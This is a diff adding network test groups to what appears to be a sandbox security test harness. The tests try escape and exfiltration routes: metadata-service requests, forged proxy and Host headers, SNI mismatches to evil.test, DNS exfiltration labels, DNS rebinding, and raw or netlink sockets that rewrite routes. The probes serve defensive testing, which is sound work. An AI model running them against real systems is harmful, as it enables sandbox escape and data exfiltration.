@@ -791,9 +791,311 @@ def group_info(args):
     case("info.environ_pid1", lambda: base64.b64encode(open("/proc/1/environ", "rb").read()).decode())
 
 
+# ---- network (C6, C7; issue #7 network class) -----------------------------------------------
+# Every destination here is either undeclared, or declared with a protocol the attempt does
+# not speak: nothing may reach the host-side listeners the driver set up (a TCP listener on
+# 0.0.0.0, listeners on 127.0.0.1 behind the declared entries, a UDP socket, an abstract
+# unix socket).
+
+NET_T = 2.0
+DNS_TYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "ANY": 255, "AXFR": 252}
+DNS_RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
+
+
+def tcp_try(addr, port, payload=b"ESCAPED", family=None):
+    fam = family or (socket.AF_INET6 if ":" in addr else socket.AF_INET)
+    with socket.socket(fam, socket.SOCK_STREAM) as s:
+        s.settimeout(NET_T)
+        s.connect((addr, int(port)))
+        s.sendall(payload)
+        data = s.recv(64)
+        if not data:
+            raise EOFError("closed")
+        return "answered"
+
+
+def tcp_proto_try(proto, addr, port):
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto) as s:
+        s.settimeout(NET_T)
+        s.connect((addr, int(port)))
+        s.sendall(b"ESCAPED")
+        return "connected"
+
+
+def udp_try(addr, port, proto=0, payload=b"ESCAPED"):
+    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
+    with socket.socket(fam, socket.SOCK_DGRAM, proto) as s:
+        s.settimeout(NET_T)
+        s.sendto(payload, (addr, int(port)))
+        return "sent"
+
+
+def tls_try(addr, port, sni):
+    import ssl
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    with socket.create_connection((addr, int(port)), timeout=NET_T) as raw:
+        with ctx.wrap_socket(raw, server_hostname=None if sni == "-" else sni) as s:
+            s.sendall(b"ESCAPED")
+            if not s.recv(64):
+                raise EOFError("closed")
+            return "handshake"
+
+
+def dns_q(name, qtype, server="127.0.0.1", transport="udp"):
+    qid = int.from_bytes(os.urandom(2), "big")
+    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+    for label in name.rstrip(".").split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\0" + struct.pack(">HH", DNS_TYPES[qtype], 1)
+    fam = socket.AF_INET6 if ":" in server else socket.AF_INET
+    if transport == "tcp":
+        with socket.socket(fam, socket.SOCK_STREAM) as s:
+            s.settimeout(NET_T)
+            s.connect((server, 53))
+            s.sendall(struct.pack(">H", len(q)) + q)
+            data = b""
+            while len(data) < 2 or len(data) < 2 + struct.unpack(">H", data[:2])[0]:
+                chunk = s.recv(4096)
+                if not chunk:
+                    raise EOFError("closed")
+                data += chunk
+            data = data[2:]
+    else:
+        with socket.socket(fam, socket.SOCK_DGRAM) as s:
+            s.settimeout(NET_T)
+            s.sendto(q, (server, 53))
+            data = s.recvfrom(4096)[0]
+    flags, an = struct.unpack(">H", data[2:4])[0], struct.unpack(">H", data[6:8])[0]
+    out = [DNS_RCODES.get(flags & 0xF, str(flags & 0xF))]
+    if an and flags & 0xF == 0:
+        # The first answer's address (A only), after the question.
+        off = 12
+        while data[off] != 0:
+            off += 1 + data[off]
+        off += 5
+        off += 2 if data[off] & 0xC0 == 0xC0 else 0
+        rtype, _, _, rdlen = struct.unpack(">HHIH", data[off:off + 10])
+        if rtype == 1 and rdlen == 4:
+            out.append(socket.inet_ntoa(data[off + 10:off + 14]))
+    return " ".join(out)
+
+
+def via_dns(name, port):
+    """Rebinding: resolve NAME with a raw query to the stub (not /etc/hosts), then connect."""
+    answer = dns_q(name, "A").split()
+    if len(answer) < 2:
+        raise RuntimeError("no address: " + answer[0])
+    return tcp_try(answer[1], port)
+
+
+def ioctl_buf(fd, req, size=64):
+    buf = ctypes.create_string_buffer(size)
+    if req == 0x8914:  # SIOCSIFFLAGS: ifr_name "lo", flags 0 (down)
+        buf.raw = b"lo" + b"\0" * (size - 2)
+    r = libc.ioctl(fd, ctypes.c_ulong(req), buf)
+    if r < 0:
+        raise OSError(ctypes.get_errno(), "ioctl")
+    return r
+
+
+def sock_ioctl(req):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        return ioctl_buf(s.fileno(), req)
+
+
+def sockopt(level, opt, value):
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
+        s.setsockopt(level, opt, value)
+        return "set"
+
+
+def new_sock(family, kind, proto=0):
+    s = socket.socket(family, kind, proto)
+    s.close()
+    return "created"
+
+
+def netlink_dump(proto):
+    # A NETLINK_ROUTE RTM_NEWROUTE / NETLINK_NETFILTER batch would follow; creating the
+    # socket is where it must stop.
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto) as s:
+        s.bind((0, 0))
+        return "bound"
+
+
+def fastopen_try(addr, port):
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", int(NET_T), 0))
+        s.sendto(b"ESCAPED", socket.MSG_FASTOPEN, (addr, int(port)))
+        s.settimeout(NET_T)
+        if not s.recv(64):
+            raise EOFError("closed")
+        return "answered"
+
+
+class Iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+
+
+class Msghdr(ctypes.Structure):
+    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
+                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+                ("flags", ctypes.c_int)]
+
+
+class Mmsghdr(ctypes.Structure):
+    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]
+
+
+def sendmmsg_try(addr, port, n=8):
+    sa = struct.pack("<H", socket.AF_INET) + struct.pack(">H", int(port)) + socket.inet_aton(addr) + b"\0" * 8
+    name = ctypes.create_string_buffer(sa, len(sa))
+    payload = ctypes.create_string_buffer(b"ESCAPED", 7)
+    iov = Iovec(ctypes.cast(payload, ctypes.c_void_p), 7)
+    msgs = (Mmsghdr * n)()
+    for m in msgs:
+        m.hdr = Msghdr(ctypes.cast(name, ctypes.c_void_p), len(sa), ctypes.pointer(iov), 1, None, 0, 0)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        r = libc.sendmmsg(s.fileno(), msgs, n, 0)
+        if r < 0:
+            raise OSError(ctypes.get_errno(), "sendmmsg")
+        return r
+
+
+def ping_try(family, proto, addr):
+    with socket.socket(family, socket.SOCK_DGRAM, proto) as s:
+        s.settimeout(NET_T)
+        typ = 8 if family == socket.AF_INET else 128
+        s.sendto(struct.pack(">BBHHH", typ, 0, 0, 0x5359, 1) + b"ESCAPED", (addr, 0))
+        return "echo " + str(len(s.recvfrom(1024)[0]))
+
+
+def broadcast_try(port):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        s.sendto(b"ESCAPED", ("255.255.255.255", int(port)))
+        return "sent"
+
+
+def group_net(args):
+    host_ip, any_port, https_port, http_port, lh_port, udp_port, abstract = args[:7]
+    allowed = "allowed.test"
+    # Literals: the host's own address and loopback, public, private, metadata, v6.
+    case("net.v4_host_ip", lambda: tcp_try(host_ip, any_port))
+    case("net.v4_loopback", lambda: tcp_try("127.0.0.1", any_port))
+    case("net.v4_loopback_other", lambda: tcp_try("127.1.2.3", any_port))
+    case("net.v4_zero", lambda: tcp_try("0.0.0.0", any_port))
+    case("net.v4_public", lambda: tcp_try("93.184.216.34", 80))
+    case("net.v4_private_10", lambda: tcp_try("10.0.0.1", 80))
+    case("net.v4_private_172", lambda: tcp_try("172.16.0.1", 80))
+    case("net.v4_private_192", lambda: tcp_try("192.168.1.1", 80))
+    case("net.v4_cgnat", lambda: tcp_try("100.64.0.1", 80))
+    case("net.metadata", lambda: tcp_try("169.254.169.254", 80,
+                                          b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"))
+    case("net.metadata_v6", lambda: tcp_try("fd00:ec2::254", 80))
+    case("net.sandbox_own_addr", lambda: tcp_try("10.254.254.1", any_port))
+    case("net.fake_unassigned", lambda: tcp_try("198.18.255.254", https_port))
+    case("net.v6_loopback", lambda: tcp_try("::1", any_port))
+    case("net.v6_literal", lambda: tcp_try("2001:db8::1", 80))
+    case("net.v6_mapped_host", lambda: tcp_try("::ffff:" + host_ip, any_port))
+    case("net.mptcp_host", lambda: tcp_proto_try(262, host_ip, any_port))
+    case("net.sctp_host", lambda: tcp_proto_try(132, host_ip, any_port))
+    # The gateway's own port, with forged proxy headers.
+    case("net.gateway_direct", lambda: tcp_try("127.0.0.1", 15001,
+                                               b"PROXY TCP4 10.254.254.1 127.0.0.1 40000 22\r\n"
+                                               b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n"))
+    case("net.gateway_direct_v6", lambda: tcp_try("::1", 15001))
+    # The declared host, on another port or with another protocol.
+    case("net.allowed_wrong_port", lambda: tcp_try(allowed, any_port))
+    case("net.allowed_udp", lambda: udp_try(socket.gethostbyname(allowed), https_port))
+    case("net.https_plaintext", lambda: tcp_try(allowed, https_port, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
+    case("net.https_sni_mismatch", lambda: tls_try(allowed, https_port, "evil.test"))
+    case("net.https_no_sni", lambda: tls_try(allowed, https_port, "-"))
+    case("net.https_sni_suffix", lambda: tls_try(allowed, https_port, "allowed.test.evil.test"))
+    case("net.http_host_mismatch", lambda: tcp_try(allowed, http_port, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
+    case("net.http_duplicate_host", lambda: tcp_try(allowed, http_port,
+                                                    b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"))
+    case("net.http_tls", lambda: tls_try(allowed, http_port, allowed))
+    case("net.http_absolute_uri", lambda: tcp_try(allowed, http_port,
+                                                  b"GET http://169.254.169.254/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
+    case("net.http_proxy_header", lambda: tcp_try(allowed, http_port,
+                                                  b"PROXY TCP4 10.0.0.1 127.0.0.1 1 22\r\nGET / HTTP/1.1\r\n"
+                                                  b"Host: allowed.test\r\n\r\n"))
+    case("net.http_connect", lambda: tcp_try(allowed, http_port, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
+    # DNS: exfiltration, other types, other servers, TCP.
+    case("net.dns_unlisted", lambda: dns_q("evil.test", "A"))
+    case("net.dns_exfil_label", lambda: dns_q("6f70657261746f722d736563726574.allowed.test", "A"))
+    case("net.dns_exfil_long", lambda: dns_q(".".join(["x" * 63] * 3) + ".evil.test", "A"))
+    case("net.dns_txt", lambda: dns_q(allowed, "TXT"))
+    case("net.dns_any", lambda: dns_q(allowed, "ANY"))
+    case("net.dns_null", lambda: dns_q(allowed, "NULL"))
+    case("net.dns_axfr_tcp", lambda: dns_q(allowed, "AXFR", transport="tcp"))
+    case("net.dns_tcp_txt", lambda: dns_q(allowed, "TXT", transport="tcp"))
+    case("net.dns_tcp_unlisted", lambda: dns_q("evil.test", "A", transport="tcp"))
+    case("net.dns_8888_udp", lambda: dns_q("evil.test", "A", "8.8.8.8"))
+    case("net.dns_8888_tcp", lambda: dns_q("evil.test", "A", "8.8.8.8", "tcp"))
+    case("net.dns_v6_server", lambda: dns_q("evil.test", "A", "2001:4860:4860::8888"))
+    case("net.dns_host_resolver", lambda: dns_q("evil.test", "A", host_ip))
+    # DoH / DoT to IP literals.
+    case("net.doh_1111", lambda: tls_try("1.1.1.1", 443, "cloudflare-dns.com"))
+    case("net.dot_1111", lambda: tls_try("1.1.1.1", 853, "one.one.one.one"))
+    case("net.doh_v6", lambda: tcp_try("2606:4700:4700::1111", 443))
+    # Rebinding: `localhost` is declared (tcp); its upstream answer is the host's loopback.
+    case("net.rebind_localhost", lambda: via_dns("localhost", lh_port))
+    # Sockets the Comet refuses outright.
+    case("net.raw_inet", lambda: new_sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
+    case("net.raw_inet6", lambda: new_sock(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
+    case("net.inet_sock_packet", lambda: new_sock(socket.AF_INET, 10, 0x0300))  # SOCK_PACKET
+    case("net.packet_raw", lambda: new_sock(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
+    case("net.packet_dgram", lambda: new_sock(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300))
+    case("net.icmp_ping", lambda: ping_try(socket.AF_INET, socket.IPPROTO_ICMP, host_ip))
+    case("net.icmp6_ping", lambda: ping_try(socket.AF_INET6, socket.IPPROTO_ICMPV6, "::1"))
+    case("net.netlink_route", lambda: netlink_dump(0))
+    case("net.netlink_netfilter", lambda: netlink_dump(12))
+    case("net.netlink_sock_diag", lambda: netlink_dump(4))
+    case("net.vsock", lambda: new_sock(40, socket.SOCK_STREAM))
+    case("net.af_alg", lambda: new_sock(38, socket.SOCK_SEQPACKET))
+    case("net.socketpair_inet", lambda: socket.socketpair(socket.AF_INET, socket.SOCK_STREAM) and "pair")
+    # Rewriting the sandbox's routes and interfaces without netlink.
+    case("net.ioctl_siocaddrt", lambda: sock_ioctl(0x890B))
+    case("net.ioctl_siocsifflags_lo_down", lambda: sock_ioctl(0x8914))
+    case("net.ioctl_siocsifaddr", lambda: sock_ioctl(0x8916))
+    case("net.so_mark", lambda: sockopt(socket.SOL_SOCKET, 36, 1))  # SO_MARK
+    case("net.ip_transparent", lambda: sockopt(socket.SOL_IP, 19, 1))  # IP_TRANSPARENT
+    case("net.proc_sys_ip_forward", lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"))
+    # Other ways to send the first byte.
+    case("net.fastopen_host", lambda: fastopen_try(host_ip, any_port))
+    case("net.sendmmsg_host", lambda: sendmmsg_try(host_ip, udp_port))
+    case("net.udp_host", lambda: udp_try(host_ip, udp_port))
+    case("net.udp_loopback", lambda: udp_try("127.0.0.1", udp_port))
+    case("net.udplite_host", lambda: udp_try(host_ip, udp_port, 136))
+    case("net.udp_multicast", lambda: udp_try("224.0.0.251", 5353))
+    case("net.udp_broadcast", lambda: broadcast_try(udp_port))
+    case("net.abstract_unix", lambda: connect("\0" + abstract))
+    # After all of it, the rules still hold.
+    case("net.still_refused", lambda: tcp_try(host_ip, any_port))
+    case("net.alive", lambda: os.getpid())
+
+
+def group_netstar(args):
+    """egress "*": any destination, yet never the host itself, its loopback or metadata."""
+    host_ip, any_port, udp_port = args[:3]
+    case("star.host_ip", lambda: tcp_try(host_ip, any_port))
+    case("star.loopback", lambda: tcp_try("127.0.0.1", any_port))
+    case("star.v6_loopback", lambda: tcp_try("::1", any_port))
+    case("star.metadata", lambda: tcp_try("169.254.169.254", 80))
+    case("star.private_10", lambda: tcp_try("10.0.0.1", 80))
+    case("star.rebind_localhost", lambda: via_dns("localhost", any_port))
+    case("star.udp_host", lambda: udp_try(host_ip, udp_port))
+    case("star.dns_txt", lambda: dns_q("anything.test", "TXT"))
+    case("star.alive", lambda: os.getpid())
+
+
 GROUPS = {"exec": group_exec, "seccomp": group_seccomp, "sweep": group_sweep, "observer": group_observer,
           "observer2": group_observer2, "fs": group_fs, "ipc": group_ipc, "resources": group_resources,
-          "info": group_info}
+          "info": group_info, "net": group_net, "netstar": group_netstar}
 
 if __name__ == "__main__":
     if len(sys.argv) < 2 or sys.argv[1] not in GROUPS:
